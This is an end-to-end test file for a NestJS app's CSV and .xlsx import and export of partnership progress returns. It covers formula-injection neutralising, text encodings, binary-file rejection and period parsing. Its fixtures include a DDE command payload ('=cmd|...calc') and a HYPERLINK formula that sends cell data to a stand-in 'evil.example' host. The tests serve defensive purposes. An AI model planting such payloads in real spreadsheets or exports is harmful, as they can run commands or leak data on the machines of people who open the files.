import { Test } from '@nestjs/testing';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { CellValue, Workbook } from 'exceljs';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { CliModule } from '../src/cli/cli.module';
import { ImportProgressCommand } from '../src/cli/import-progress.command';
import { ApiClient, createTestApp, describeE2E, TestApp } from './helpers/app';
import type { Test as HttpRequest } from 'supertest';
import { StrategyBuilder } from './helpers/strategy-builder';

const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[-+]?(\d+\.?\d*|\.\d+)(e[-+]?\d+)?$/i;

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

/** A one-sheet workbook: a header row, then one row per record (a cell may be a formula). */
async function workbookOf(columns: string[], records: Record<string, unknown>[]): Promise<Buffer> {
  const workbook = new Workbook();
  const sheet = workbook.addWorksheet('Return');
  sheet.addRow(columns);
  for (const record of records) sheet.addRow(columns.map((c) => record[c] as CellValue));
  return Buffer.from(await workbook.xlsx.writeBuffer());
}

/** Collects a binary response body (supertest buffers only text by default). */
const binary = ((res: NodeJS.ReadableStream, done: (err: Error | null, body: Buffer) => void) => {
  const chunks: Buffer[] = [];
  res.on('data', (c: Buffer) => chunks.push(c));
  res.on('end', () => done(null, Buffer.concat(chunks)));
}) as unknown as Parameters<HttpRequest['parse']>[0];

/** Every cell of a CSV, as a spreadsheet would read it: the header row and every record. */
const cellsOf = (csv: string): string[] => (parse(csv, { relax_column_count: true }) as string[][]).flat();

// The clock is 1 May 2026, so every quarter of 2025-26 is open for returns.
describeE2E('Spreadsheets: safe exports, encodings, binary files, printed periods, .xlsx', () => {
  let t: TestApp;

  beforeAll(async () => {
    t = await createTestApp({ now: new Date('2026-05-01T09:00:00Z') });
  });
  afterAll(() => t.close());

  const importCsv = (client: ApiClient, strategyId: string, csv: string | Buffer, query = '') =>
    client.post(`/api/v1/strategies/${strategyId}/progress/import${query}`).set('Content-Type', 'text/csv').send(csv);

  describe('formula injection', () => {
    let b: StrategyBuilder;
    let lead: string;
    let officer: ApiClient;
    let ids: Record<string, string>;

    beforeAll(async () => {
      b = await new StrategyBuilder(t).init();
      const theme = await b.theme('Community safety');
      lead = await b.partnership({ name: 'Safer Wealden Partnership' });
      officer = await t.as('partnership-officer', [lead]);
      ids = {};
      for (const [code, title] of [
        ['INJ 1', '@Risky title'],
        ['INJ 2', '=cmd|" /C calc"!A0'],
        ['INJ 3', 'Plain title'],
      ]) {
        const target = await b.target({ code, title, themeId: theme, baselineValue: -10, targetValue: 0, baselinePeriod: '2024-25-Q4', targetPeriod: '2025-26-Q4' });
        await b.assign(target.id, lead);
        ids[code] = target.id;
      }
      await importCsv(
        officer,
        b.strategyId,
        stringify(
          [
            { code: 'INJ 1', period: '2025-26-Q2', value: -3.5, commentary: '=1+1', risks: '-fewer patrols', next_actions: '@SUM(A1:A2)' },
            { code: 'INJ 2', period: '2025-26-Q2', value: 7, commentary: '+44 1892 000000', risks: '=HYPERLINK("http://evil.example/?"&A1,"click")', next_actions: '-2' },
          ],
          { header: true },
        ),
      ).expect(200);
      // Text that already starts with a quote, typed through the API, must come back as typed.
      await b.submitReturn(officer, ids['INJ 3'], '2025-26-Q2', -0.25, { commentary: "'=kept as typed", risks: "'tis the season" });
    });

    const exportProgress = async () => (await b.api.get(`/api/v1/strategies/${b.strategyId}/progress.csv?period=2025-26-Q2`).expect(200)).text;

    it('writes formula-like text as inert text in progress.csv, and leaves numbers as numbers', async () => {
      const exported = exportProgress();
      const records = parse(await exported, { columns: true }) as Record<string, string>[];
      expect(records.map((r) => [r.code, r.value, r.commentary, r.risks, r.next_actions])).toEqual([
        ['INJ 1', '-3.5', "'=1+1", "'-fewer patrols", "'@SUM(A1:A2)"],
        ['INJ 2', '7', "'+44 1892 000000", '\'=HYPERLINK("http://evil.example/?"&A1,"click")', '-2'],
        ['INJ 3', '-0.25', "''=kept as typed", "'tis the season", ''],
      ]);
      expect(cellsOf(await exported).filter((cell) => FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell))).toEqual([]);
    });

    it('neutralises the return template and the targets export too', async () => {
      const template = (await officer.get(`/api/v1/partnerships/${lead}/returns/template.csv?period=2025-26-Q2`).expect(200)).text;
      const rows = parse(template, { columns: true }) as Record<string, string>[];
      expect(rows.find((r) => r.code === 'INJ 1')).toMatchObject({ title: "'@Risky title", value: '-3.5', commentary: "'=1+1" });
      expect(cellsOf(template).filter((cell) => FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell))).toEqual([]);

      const targets = (await b.api.get(`/api/v1/strategies/${b.strategyId}/targets.csv`).expect(200)).text;
      const byCode = new Map((parse(targets, { columns: true }) as Record<string, string>[]).map((r) => [r.code, r]));
      expect(byCode.get('INJ 1')).toMatchObject({ title: "'@Risky title", baseline_value: '-10' });
      expect(byCode.get('INJ 2')!.title).toBe('\'=cmd|" /C calc"!A0');
      expect(cellsOf(targets).filter((cell) => FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell))).toEqual([]);
    });

    it('offers the template as .xlsx: formula-like text inert, numbers as numbers, and it uploads back unchanged', async () => {
      const res = await officer.get(`/api/v1/partnerships/${lead}/returns/template.xlsx?period=2025-26-Q2`).buffer(true).parse(binary).expect(200);
      expect(res.headers['content-type']).toBe(XLSX);
      expect(res.headers['content-disposition']).toBe('attachment; filename="safer-wealden-partnership-return-2025-26-Q2.xlsx"');
      const workbook = new Workbook();
      await workbook.xlsx.load(res.body as Parameters<Workbook['xlsx']['load']>[0]);
      const sheet = workbook.worksheets[0];
      expect(sheet.getRow(1).values).toEqual([undefined, 'code', 'title', 'unit', 'period', 'expected', 'last_value', 'value', 'commentary', 'risks', 'next_actions']);
      const first = sheet.getRow(2);
      expect([first.getCell(1).value, first.getCell(2).value, first.getCell(7).value, first.getCell(8).value, first.getCell(9).value]).toEqual(['INJ 1', "'@Risky title", -3.5, "'=1+1", "'-fewer patrols"]);
      expect(sheet.getRow(2).getCell(7).type).toBe(2); // ValueType.Number
      const uploaded = await officer.post(`/api/v1/strategies/${b.strategyId}/progress/import`).set('Content-Type', XLSX).send(res.body as Buffer).expect(200);
      expect(uploaded.body).toEqual({ dryRun: false, rows: 3, created: 0, updated: 0, unchanged: 3, skipped: 0 });
    });

    it('round-trips: importing the export (and the template) changes nothing, and the stored text is the original', async () => {
      const exported = await exportProgress();
      const res = await importCsv(b.api, b.strategyId, exported).expect(200);
      expect(res.body).toEqual({ dryRun: false, rows: 3, created: 0, updated: 0, unchanged: 3, skipped: 0 });
      expect(await exportProgress()).toBe(exported);

      const template = (await officer.get(`/api/v1/partnerships/${lead}/returns/template.csv?period=2025-26-Q2`).expect(200)).text;
      expect((await importCsv(officer, b.strategyId, template).expect(200)).body).toMatchObject({ rows: 3, unchanged: 3 });

      const stored = (await b.api.get(`/api/v1/targets/${ids['INJ 1']}/progress?from=2025-26-Q2&to=2025-26-Q2`).expect(200)).body.items[0];
      expect(stored).toMatchObject({ value: -3.5, commentary: '=1+1', risks: '-fewer patrols', nextActions: '@SUM(A1:A2)' });
      const typed = (await b.api.get(`/api/v1/targets/${ids['INJ 3']}/progress?from=2025-26-Q2&to=2025-26-Q2`).expect(200)).body.items[0];
      expect(typed).toMatchObject({ value: -0.25, commentary: "'=kept as typed", risks: "'tis the season" });
    });
  });

  describe('CSV encodings, binary files and printed periods', () => {
    let b: StrategyBuilder;
    let officer: ApiClient;
    let ids: Record<string, string>;

    beforeAll(async () => {
      b = await new StrategyBuilder(t).init();
      const theme = await b.theme('Economy');
      const lead = await b.partnership({ name: 'Wealden Economy Partnership' });
      officer = await t.as('partnership-officer', [lead]);
      ids = {};
      for (const code of ['ENC 1', 'ENC 2', 'ENC 3']) {
        const target = await b.target({ code, themeId: theme, baselineValue: 0, targetValue: 100, baselinePeriod: '2024-25-Q4', targetPeriod: '2025-26-Q4' });
        await b.assign(target.id, lead);
        ids[code] = target.id;
      }
    });

    const stored = async (code: string, period: string) =>
      (await b.api.get(`/api/v1/targets/${ids[code]}/progress?from=${period}&to=${period}`).expect(200)).body.items[0];
    const header = 'code,period,value,commentary\r\n';

    it('stores a Windows-1252 CSV (Excel\'s "CSV (Comma delimited)") with its £ and curly quotes', async () => {
      // 0xA3 is £ and 0x93/0x94 are “ ” in Windows-1252; none of them is valid UTF-8 on its own.
      const file = Buffer.concat([Buffer.from(`${header}ENC 1,2025-26-Q1,10,`), Buffer.from([0xa3]), Buffer.from('1.2m grant '), Buffer.from([0x93]), Buffer.from('levelling up'), Buffer.from([0x94]), Buffer.from('\r\n')]);
      expect(file.includes(Buffer.from('£', 'utf8'))).toBe(false);
      await importCsv(officer, b.strategyId, file).expect(200);
      expect((await stored('ENC 1', '2025-26-Q1')).commentary).toBe('£1.2m grant “levelling up”');
      // The same bytes as a multipart file.
      const multipart = Buffer.concat([Buffer.from(`${header}ENC 1,2025-26-Q2,11,`), Buffer.from([0xa3]), Buffer.from('5k\r\n')]);
      await officer.post(`/api/v1/strategies/${b.strategyId}/progress/import`).attach('file', multipart, { filename: 'return.csv', contentType: 'text/csv' }).expect(200);
      expect((await stored('ENC 1', '2025-26-Q2')).commentary).toBe('£5k');
    });

    it('stores UTF-8 with and without a byte-order mark', async () => {
      await importCsv(officer, b.strategyId, Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(`${header}ENC 2,2025-26-Q1,20,£2m – “café”\r\n`, 'utf8')])).expect(200);
      expect((await stored('ENC 2', '2025-26-Q1')).commentary).toBe('£2m – “café”');
      await importCsv(officer, b.strategyId, Buffer.from(`${header}ENC 2,2025-26-Q2,21,€3m\n`, 'utf8')).expect(200);
      expect((await stored('ENC 2', '2025-26-Q2')).commentary).toBe('€3m');
    });

    it('refuses a file it cannot decode, saying how to save it, and stores nothing', async () => {
      const file = Buffer.concat([Buffer.from(`${header}ENC 3,2025-26-Q1,30,`), Buffer.from([0x81, 0xa3]), Buffer.from('\r\n')]);
      const res = await importCsv(officer, b.strategyId, file).expect(400);
      expect(res.body).toMatchObject({ statusCode: 400, message: 'The file could not be read as CSV' });
      expect(res.body.errors).toEqual([{ field: 'file', message: expect.stringMatching(/: save it from your spreadsheet as "CSV UTF-8 \(Comma delimited\)"$/) }]);
      expect(await stored('ENC 3', '2025-26-Q1')).toBeUndefined();
    });

    it('answers a binary file sent as CSV with a plain message', async () => {
      const workbook = new Workbook();
      workbook.addWorksheet('Return').addRow(['code', 'period', 'value']);
      const xlsx = Buffer.from(await workbook.xlsx.writeBuffer());
      const asCsv = await importCsv(officer, b.strategyId, xlsx).expect(400);
      expect(asCsv.body.errors[0].message).toMatch(/^this looks like an Excel workbook \(\.xlsx\), not CSV: upload it as \.xlsx/);
      expect(asCsv.text).not.toMatch(/PK|\\u0003/);
      const asMultipartCsv = await officer
        .post(`/api/v1/strategies/${b.strategyId}/progress/import`)
        .attach('file', xlsx, { filename: 'return.csv', contentType: 'text/csv' })
        .expect(400);
      expect(asMultipartCsv.body.errors[0].message).toMatch(/^this looks like an Excel workbook/);
      const xls = Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0, 0, 0]);
      expect((await importCsv(officer, b.strategyId, xls).expect(400)).body.errors[0].message).toMatch(/^this looks like an old Excel 97-2003 workbook \(\.xls\)/);
      const nul = Buffer.from('code,period,value\nENC 3,2025-26-Q1,3\0\n');
      expect((await importCsv(officer, b.strategyId, nul).expect(400)).body.errors[0].message).toMatch(/^this is a binary file, not CSV text/);
      expect(await stored('ENC 3', '2025-26-Q1')).toBeUndefined();
    });

    it('reads periods in the printed form 2025/26 Q3, and names a bad one by row and column', async () => {
      const bad = await importCsv(officer, b.strategyId, `${header}ENC 3,2025/26 Q3,33,\r\nENC 3,2025/27 Q4,34,\r\n`).expect(422);
      expect(bad.body.errors).toEqual([
        { field: 'row 3, period', row: 3, column: 'period', message: '"2025/27 Q4" is not a valid period: the second year must follow the first (expected 2025/26 Q4 form)' },
      ]);
      expect(await stored('ENC 3', '2025-26-Q3')).toBeUndefined();
      const res = await importCsv(officer, b.strategyId, `${header}ENC 3,2025/26 Q3,33,\r\nENC 3,2025-26-Q4,34,\r\n`).expect(200);
      expect(res.body).toMatchObject({ rows: 2, created: 2 });
      expect(await stored('ENC 3', '2025-26-Q3')).toMatchObject({ period: '2025-26-Q3', value: 33 });
      // API parameters keep the code form.
      await b.api.get(`/api/v1/strategies/${b.strategyId}/progress.csv?period=${encodeURIComponent('2025/26 Q3')}`).expect(400);
    });

    it('imports from the command line the same way: a Windows-1252 CSV and an .xlsx, told apart by the file name', async () => {
      const dir = mkdtempSync(join(tmpdir(), 'scs-returns-'));
      const cli = await Test.createTestingModule({ imports: [CliModule] }).compile();
      await cli.init();
      const log = jest.spyOn(console, 'log').mockImplementation(() => undefined);
      try {
        const csv = join(dir, 'return.csv');
        writeFileSync(csv, Buffer.concat([Buffer.from(`${header}ENC 2,2025/26 Q3,23,`), Buffer.from([0xa3]), Buffer.from('4m\r\n')]));
        const xlsx = join(dir, 'return.xlsx');
        writeFileSync(xlsx, await workbookOf(['code', 'period', 'value', 'commentary'], [{ code: 'ENC 2', period: '2025/26 Q4', value: 24, commentary: '£5m' }]));
        const command = cli.get(ImportProgressCommand);
        await command.run([], { strategy: b.strategyId, file: csv, as: officer.user.email });
        await command.run([], { strategy: b.strategyId, file: xlsx, as: officer.user.email });
        expect(log.mock.calls.map(([line]) => line)).toEqual([
          'Stored 1 new and 0 changed returns; 0 unchanged, 0 empty rows skipped (1 rows).',
          'Stored 1 new and 0 changed returns; 0 unchanged, 0 empty rows skipped (1 rows).',
        ]);
        expect(await stored('ENC 2', '2025-26-Q3')).toMatchObject({ value: 23, commentary: '£4m' });
        expect(await stored('ENC 2', '2025-26-Q4')).toMatchObject({ value: 24, commentary: '£5m' });
      } finally {
        log.mockRestore();
        await cli.close();
        rmSync(dir, { recursive: true, force: true });
      }
    });

    it('still answers 400 to a text body sent to a JSON route', async () => {
      const res = await b.api.post('/api/v1/partnerships').set('Content-Type', 'text/plain').send('name=Wealden').expect(400);
      expect(res.body.statusCode).toBe(400);
    });
  });

  describe('.xlsx returns', () => {
    const PERIODS = ['2024-25-Q1', '2024-25-Q2', '2024-25-Q3', '2024-25-Q4', '2025-26-Q1', '2025-26-Q2', '2025-26-Q3', '2025-26-Q4'];
    const COLUMNS = ['code', 'period', 'value', 'commentary'];
    let b: StrategyBuilder;
    let officer: ApiClient;
    let codes: string[];

    beforeAll(async () => {
      b = await new StrategyBuilder(t).init();
      const theme = await b.theme('Housing');
      const lead = await b.partnership({ name: 'Wealden Housing Partnership' });
      officer = await t.as('partnership-officer', [lead]);
      codes = [];
      for (let i = 1; i <= 125; i++) {
        const code = `HS ${String(i).padStart(3, '0')}`;
        const target = await b.target({ code, themeId: theme, baselineValue: 100, targetValue: 180, baselinePeriod: '2023-24-Q4', targetPeriod: '2025-26-Q4' });
        await b.assign(target.id, lead);
        codes.push(code);
      }
    }, 180_000);

    const importXlsx = (xlsx: Buffer, query = '') =>
      officer.post(`/api/v1/strategies/${b.strategyId}/progress/import${query}`).set('Content-Type', XLSX).send(xlsx);
    const storedRows = async (period: string) =>
      parse((await b.api.get(`/api/v1/strategies/${b.strategyId}/progress.csv?period=${period}&status=all`).expect(200)).text, { columns: true }) as Record<string, string>[];
    // 1,000 rows: 125 targets × 8 quarters; the 2024-25 quarters written as the reports print them.
    const records = () =>
      codes.flatMap((code, i) =>
        PERIODS.map((period, q) => ({ code, period: q < 4 ? `2024/25 Q${q + 1}` : period, value: 100 + i + q, commentary: `Return for ${code}` as CellValue })),
      );

    it('refuses a 1,000-row workbook with one bad cell, naming its row and column, and stores nothing', async () => {
      const bad = records();
      expect(bad).toHaveLength(1000);
      bad[736] = { ...bad[736], value: 'twelve' } as never;
      const res = await importXlsx(await workbookOf(COLUMNS, bad)).expect(422);
      expect(res.body.message).toBe('Nothing was imported: 1 problem in 1 row(s)');
      expect(res.body.errors).toEqual([{ field: 'row 738, value', row: 738, column: 'value', message: 'must be a number, got "twelve"' }]);
      for (const period of PERIODS) expect(await storedRows(period)).toEqual([]);
    });

    it('stores all 1,000 rows of the corrected workbook, formulas by their result, as a multipart file too', async () => {
      const good = records();
      // A cell Excel calculated: its cached result is the figure.
      good[5] = { ...good[5], value: { formula: '100+5', result: 105 } as never };
      const xlsx = await workbookOf(COLUMNS, good);
      const dry = await officer
        .post(`/api/v1/strategies/${b.strategyId}/progress/import?dryRun=true`)
        .attach('file', xlsx, { filename: 'return.xlsx', contentType: 'application/octet-stream' })
        .expect(200);
      expect(dry.body).toEqual({ dryRun: true, rows: 1000, created: 1000, updated: 0, unchanged: 0, skipped: 0 });
      const res = await importXlsx(xlsx).expect(200);
      expect(res.body).toEqual({ dryRun: false, rows: 1000, created: 1000, updated: 0, unchanged: 0, skipped: 0 });
      for (const period of PERIODS) expect(await storedRows(period)).toHaveLength(125);
      expect((await storedRows('2024-25-Q2'))[0]).toMatchObject({ code: 'HS 001', period: '2024-25-Q2', value: '101', commentary: 'Return for HS 001', status: 'submitted' });
      expect((await storedRows('2025-26-Q2')).find((r) => r.code === 'HS 001')).toMatchObject({ value: '105' });
      expect((await importXlsx(xlsx).expect(200)).body).toMatchObject({ rows: 1000, unchanged: 1000 });
    });

    it('answers a file that is not a workbook, or a workbook without the columns, with a 400 naming the problem', async () => {
      const csvAsXlsx = await importXlsx(Buffer.from('code,period,value\nHS 001,2025-26-Q1,1\n')).expect(400);
      expect(csvAsXlsx.body).toMatchObject({ message: 'The file could not be read as an .xlsx workbook' });
      expect(csvAsXlsx.body.errors[0].message).toMatch(/^this is not an Excel workbook \(\.xlsx\)/);
      const corrupt = await importXlsx(Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(64, 1)])).expect(400);
      expect(corrupt.body.errors[0].message).toMatch(/^the \.xlsx workbook could not be read/);
      const noColumns = await importXlsx(await workbookOf(['code', 'amount'], [{ code: 'HS 001', amount: 3 }])).expect(400);
      expect(noColumns.body.errors).toEqual([
        { field: 'file', message: 'the header row has no "period" column' },
        { field: 'file', message: 'the header row has no "value" column' },
      ]);
    });
  });
});
